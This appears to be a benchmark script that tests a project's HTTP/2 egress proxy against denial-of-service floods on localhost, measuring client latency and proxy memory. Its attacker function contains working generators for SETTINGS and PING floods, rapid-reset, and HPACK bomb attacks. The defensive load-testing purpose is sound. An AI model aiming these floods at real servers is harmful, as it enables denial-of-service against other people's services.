"""HTTP/2 floods and HPACK bombs through flowtap's egress proxy (issue 15, items 6 and 7).

One run, each piece its own process, all on 127.0.0.1:

* upstreams: two cleartext HTTP/2 servers (one for the attacker, one for the good client;
  h2 state machine) that answer GET /hi, advertising
  SETTINGS_HEADER_TABLE_SIZE 2^32-1 (what the HPACK bomb needs from a server);
* proxy: flowtap's EgressProxy (transparent listener, original destination injected),
  every transaction made into an http record at capture level ``headers``;
* good client: one HTTP/2 connection through the proxy, GET /hi one after the other,
  each request's latency measured;
* attacker: one connection at a time through the proxy, sending one flood as fast as it
  can, reconnecting whenever the proxy closes it: ``settings``, ``ping``, ``rapid-reset``
  (HEADERS + RST_STREAM), ``hpack-table`` (a 4 GiB table used at once) and
  ``hpack-held`` (4,000 header blocks of 60 KiB each once decoded, on unanswered streams).

For each phase (no flood first, then each flood), the good client's p50/p99 latency, the
proxy's peak RSS (sampled every 50 ms, and VmHWM), and the proxy's counters.
Usage, from the repository root: .venv/bin/python -m bench.proxy_floods [--seconds 10]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import uvloop
from hpack import Encoder
from hyperframe.frame import HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from bench.common import BenchError, command_line, host_facts, markdown_table, write_results
from flowtap.protocols.messages import Transaction
from flowtap.proxy import CertificateAuthority, EgressProxy, ProxyConfig, ProxyContext
from flowtap.proxy.records import egress_http_record
from flowtap.records.connection import WallClock
from flowtap.records.http import HttpRecordOptions

HUGE_TABLE = 2**32 - 1
GOOD_SOURCE = "127.0.0.2"  # the good client's address: the proxy sends it to its own upstream
KINDS = ("settings", "ping", "rapid-reset", "hpack-table", "hpack-held")
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "up.test")]


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def _wait_port(port: int, proc: subprocess.Popen[bytes], timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise BenchError(f"{proc.args!r} exited with {proc.returncode} before listening")
        with socket.socket() as sock:
            if sock.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.05)
    raise BenchError(f"nothing listens on 127.0.0.1:{port} after {timeout}s")


# -- upstream ---------------------------------------------------------------------------


def serve_upstream(port: int) -> int:

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        config = h2.config.H2Configuration(client_side=False, header_encoding=None)
        conn = h2.connection.H2Connection(config)
        conn.local_settings = h2.settings.Settings(
            client=False,
            initial_values={
                h2.settings.SettingCodes.HEADER_TABLE_SIZE: HUGE_TABLE,
                h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100000,
            },
        )
        conn.decoder.max_allowed_table_size = HUGE_TABLE
        conn.decoder.max_header_list_size = 1 << 30
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        paths: dict[int, bytes] = {}
        try:
            while data := await reader.read(65536):
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.RequestReceived):
                        paths[event.stream_id] = dict(event.headers).get(b":path", b"")
                    elif isinstance(event, h2.events.StreamEnded) and (
                        paths.pop(event.stream_id, b"") == b"/hi"
                    ):
                        conn.send_headers(event.stream_id, [(":status", "200")])
                        conn.send_data(event.stream_id, b"h2 says hi", end_stream=True)
                    elif isinstance(event, h2.events.StreamReset):
                        paths.pop(event.stream_id, None)
                writer.write(conn.data_to_send())
                await writer.drain()
        except (ConnectionError, h2.exceptions.H2Error, Exception):
            pass
        finally:
            writer.close()

    async def main() -> None:
        server = await asyncio.start_server(handle, "127.0.0.1", port, backlog=1024)
        stop = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        async with server:
            await stop.wait()

    uvloop.run(main())
    return 0


# -- proxy ------------------------------------------------------------------------------


def serve_proxy(port: int, upstream_port: int, good_upstream_port: int, counters_file: Path) -> int:
    """The proxy; connections from GOOD_SOURCE (the good client's address) go to their
    own upstream process, so that what is measured is the proxy, not a shared upstream
    busy decoding the attacker's headers."""

    options = HttpRecordOptions(level="headers")
    clock = WallClock()
    records = [0]

    def on_transaction(tx: Transaction, ctx: ProxyContext) -> None:
        if egress_http_record(tx, ctx, {"pid": ctx.pid}, options, clock) is not None:
            records[0] += 1

    async def main() -> None:
        state = Path(tempfile.mkdtemp(prefix="flowtap-floods-ca-"))
        ca = CertificateAuthority.load_or_create(state)
        config = ProxyConfig(transparent_port=port, host6=None, explicit_port=None, http=options)
        proxy = EgressProxy(
            config,
            ca,
            on_transaction=on_transaction,
            original_destination=lambda sock: (
                "127.0.0.1",
                good_upstream_port if sock.getpeername()[0] == GOOD_SOURCE else upstream_port,
            ),
        )
        stop = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        async with proxy:
            while not stop.is_set():
                tmp = counters_file.with_suffix(".tmp")
                tmp.write_text(json.dumps({"http_records": records[0], **proxy.counters()}))
                tmp.replace(counters_file)
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), 0.2)

    uvloop.run(main())
    return 0


# -- attacker ---------------------------------------------------------------------------


def _frames(kind: str) -> bytes:
    """About 64 KiB of one flood's frames, sent again and again."""

    if kind == "settings":
        frame = SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()
    elif kind == "ping":
        frame = PingFrame(0, opaque_data=b"12345678").serialize()
    else:
        raise ValueError(kind)
    return frame * ((64 << 10) // len(frame))


def _read_settings(sock: socket.socket) -> None:
    """Waits for the server's SETTINGS (the bomb needs its table size seen first)."""
    data = b""
    while len(data) < 9:
        more = sock.recv(65536)
        if not more:
            raise ConnectionError("closed")
        data += more


def attack(kind: str, port: int, seconds: float) -> int:

    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
    end = time.monotonic() + seconds
    connections = 0
    sent = 0
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                connections += 1
                sock.sendall(preface)
                if kind in ("settings", "ping"):
                    chunk = _frames(kind)
                    while time.monotonic() < end:
                        sock.sendall(chunk)
                        sent += len(chunk)
                elif kind == "rapid-reset":
                    encoder = Encoder()
                    stream = 1
                    while time.monotonic() < end:
                        parts = []
                        for _ in range(1000):
                            block = encoder.encode([*REQUEST, (":path", "/slow")])
                            flags = ["END_HEADERS", "END_STREAM"]
                            parts.append(HeadersFrame(stream, block, flags=flags).serialize())
                            parts.append(RstStreamFrame(stream, error_code=0x8).serialize())
                            stream += 2
                        data = b"".join(parts)
                        sock.sendall(data)
                        sent += len(data)
                else:  # hpack-table, hpack-held
                    _read_settings(sock)
                    encoder = Encoder()
                    if kind == "hpack-table":
                        encoder.header_table_size = HUGE_TABLE
                    else:
                        encoder.header_table_size = 1 << 16
                    big = ("x-bomb", "b" * 4000)
                    parts = [SettingsFrame(0, flags=["ACK"]).serialize()]
                    for index in range(4000):
                        fields = [*REQUEST, (":path", "/slow")]
                        if kind == "hpack-table":
                            fields.append((f"x-{index}", "b" * 4000))  # a new table entry
                        else:
                            fields += [big] * 15  # 60 KB decoded from a few bytes
                        block = encoder.encode(fields)
                        flags = ["END_HEADERS"]  # the stream stays open
                        parts.append(HeadersFrame(2 * index + 1, block, flags=flags).serialize())
                    data = b"".join(parts)
                    sock.sendall(data)
                    sent += len(data)
                    # Keep the connection (and whatever it holds) open for a while.
                    sock.settimeout(max(0.1, min(2.0, end - time.monotonic())))
                    with contextlib.suppress(TimeoutError):
                        while sock.recv(65536):
                            pass
        except OSError:
            continue
    print(json.dumps({"connections": connections, "bytes_sent": sent}))
    return 0


# -- good client --------------------------------------------------------------------------


class GoodClient:
    """One HTTP/2 connection, GET /hi one after the other; latencies in seconds."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.latencies: list[float] = []
        self.errors = 0
        self.last_error: str | None = None
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)

    def take(self) -> list[float]:
        out, self.latencies = self.latencies, []
        return out

    def _run(self) -> None:

        while not self._stop.is_set():
            try:
                with socket.socket() as sock:
                    sock.bind((GOOD_SOURCE, 0))
                    sock.settimeout(10)
                    sock.connect(("127.0.0.1", self.port))
                    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                    conn.initiate_connection()
                    sock.sendall(conn.data_to_send())
                    while not self._stop.is_set():
                        started = time.perf_counter()
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, [*REQUEST, (":path", "/hi")], end_stream=True)
                        sock.sendall(conn.data_to_send())
                        body, ended = b"", False
                        while not ended:
                            data = sock.recv(65536)
                            if not data:
                                raise ConnectionError("closed")
                            for event in conn.receive_data(data):
                                if isinstance(event, h2.events.DataReceived):
                                    body += event.data
                                    conn.acknowledge_received_data(len(event.data), sid)
                                elif isinstance(event, h2.events.StreamEnded):
                                    ended = event.stream_id == sid
                            if out := conn.data_to_send():
                                sock.sendall(out)
                        if body != b"h2 says hi":
                            raise ConnectionError(f"wrong body {body!r}")
                        self.latencies.append(time.perf_counter() - started)
                        time.sleep(0.005)
            except Exception as exc:  # counted, the last one said at the end
                self.errors += 1
                self.last_error = f"{type(exc).__name__}: {exc}"
                time.sleep(0.05)


# -- the run ------------------------------------------------------------------------------


def _rss_kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    return 0


@contextlib.contextmanager
def _process(args: list[str], log: Path) -> Iterator[subprocess.Popen[bytes]]:
    with log.open("wb") as out:
        proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=out)
    try:
        yield proc
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait(10)


def _percentile(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def measure(args: argparse.Namespace) -> int:
    me = [sys.executable, "-m", "bench.proxy_floods"]
    work = Path(tempfile.mkdtemp(prefix="flowtap-floods-"))
    counters_file = work / "counters.json"
    upstream_port, good_upstream_port, proxy_port = _free_port(), _free_port(), _free_port()
    facts = host_facts()
    phases: list[dict[str, Any]] = []
    with (
        _process([*me, "upstream", str(upstream_port)], work / "upstream.log") as upstream,
        _process([*me, "upstream", str(good_upstream_port)], work / "good.log") as good,
        _process(
            [
                *me,
                "proxy",
                str(proxy_port),
                str(upstream_port),
                str(good_upstream_port),
                str(counters_file),
            ],
            work / "proxy.log",
        ) as proxy,
    ):
        _wait_port(upstream_port, upstream)
        _wait_port(good_upstream_port, good)
        _wait_port(proxy_port, proxy)
        client = GoodClient(proxy_port)
        client.start()
        time.sleep(1.0)  # warm up
        client.take()
        baseline_rss = _rss_kib(proxy.pid, "VmRSS")
        for kind in ("none", *(args.kinds or KINDS)):
            before = json.loads(counters_file.read_text())
            client_errors = client.errors
            attacker = None
            if kind != "none":
                attacker = subprocess.Popen(
                    [*me, "attack", kind, str(proxy_port), str(args.seconds)],
                    stdout=subprocess.PIPE,
                )
            end = time.monotonic() + args.seconds
            peak = 0
            while time.monotonic() < end:
                peak = max(peak, _rss_kib(proxy.pid, "VmRSS"))
                time.sleep(0.05)
            attack_out: dict[str, Any] = {}
            if attacker is not None:
                out, _ = attacker.communicate(timeout=60)
                with contextlib.suppress(ValueError):
                    attack_out = json.loads(out.decode().strip().splitlines()[-1])
            time.sleep(0.5)  # the proxy's counters file catches up
            after = json.loads(counters_file.read_text())
            lat = client.take()
            delta = {k: after[k] - before.get(k, 0) for k in after if after[k] != before.get(k, 0)}
            phases.append(
                {
                    "flood": kind,
                    "good_requests": len(lat),
                    "good_errors": client.errors - client_errors,
                    "p50_ms": round(_percentile(lat, 0.5) * 1e3, 2),
                    "p99_ms": round(_percentile(lat, 0.99) * 1e3, 2),
                    "mean_ms": round(statistics.fmean(lat) * 1e3, 2) if lat else None,
                    "proxy_peak_rss_mib": round(peak / 1024, 1),
                    "attacker": attack_out,
                    "proxy_counters_delta": delta,
                }
            )
            print(json.dumps(phases[-1]), flush=True)
        client.stop()
        hwm = _rss_kib(proxy.pid, "VmHWM")
    rows = [
        [
            p["flood"],
            p["good_requests"],
            p["good_errors"],
            p["p50_ms"],
            p["p99_ms"],
            p["proxy_peak_rss_mib"],
            p["attacker"].get("connections", "-"),
            round(p["attacker"].get("bytes_sent", 0) / 1e6, 1),
            p["proxy_counters_delta"].get("h2_flood_closed", 0),
            p["proxy_counters_delta"].get("http2_header_limit", 0),
            p["proxy_counters_delta"].get("http_records", 0),
        ]
        for p in phases
    ]
    print()
    print(
        markdown_table(
            [
                "flood",
                "good requests",
                "errors",
                "p50 ms",
                "p99 ms",
                "proxy peak RSS MiB",
                "attacker connections",
                "attacker MB sent",
                "h2_flood_closed",
                "http2_header_limit",
                "http records",
            ],
            rows,
        )
    )
    if client.last_error:
        print(f"good client's last error: {client.last_error}")
    print(f"\nproxy RSS: {baseline_rss / 1024:.1f} MiB after warm-up, VmHWM {hwm / 1024:.1f} MiB")
    command = command_line("bench.proxy_floods")
    path = write_results(
        "proxy_floods",
        {
            "command": command,
            "host": facts,
            "seconds_per_phase": args.seconds,
            "proxy_rss_after_warmup_mib": round(baseline_rss / 1024, 1),
            "proxy_vmhwm_mib": round(hwm / 1024, 1),
            "phases": phases,
        },
    )
    print(f"command: {command}\nresults: {path}")
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="bench.proxy_floods", description=__doc__)
    sub = parser.add_subparsers(dest="command")
    up = sub.add_parser("upstream")
    up.add_argument("port", type=int)
    px = sub.add_parser("proxy")
    px.add_argument("port", type=int)
    px.add_argument("upstream_port", type=int)
    px.add_argument("good_upstream_port", type=int)
    px.add_argument("counters_file", type=Path)
    at = sub.add_parser("attack")
    at.add_argument("kind", choices=KINDS)
    at.add_argument("port", type=int)
    at.add_argument("seconds", type=float)
    parser.add_argument("--seconds", type=float, default=10.0, help="per phase (default 10)")
    parser.add_argument("--kinds", nargs="*", choices=KINDS, help="floods to run (default all)")
    args = parser.parse_args(argv)
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    try:
        if args.command == "upstream":
            return serve_upstream(args.port)
        if args.command == "proxy":
            return serve_proxy(
                args.port,
                args.upstream_port,
                args.good_upstream_port,
                args.counters_file,
            )
        if args.command == "attack":
            return attack(args.kind, args.port, args.seconds)
        return measure(args)
    except BenchError as exc:
        print(f"bench.proxy_floods: {exc}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
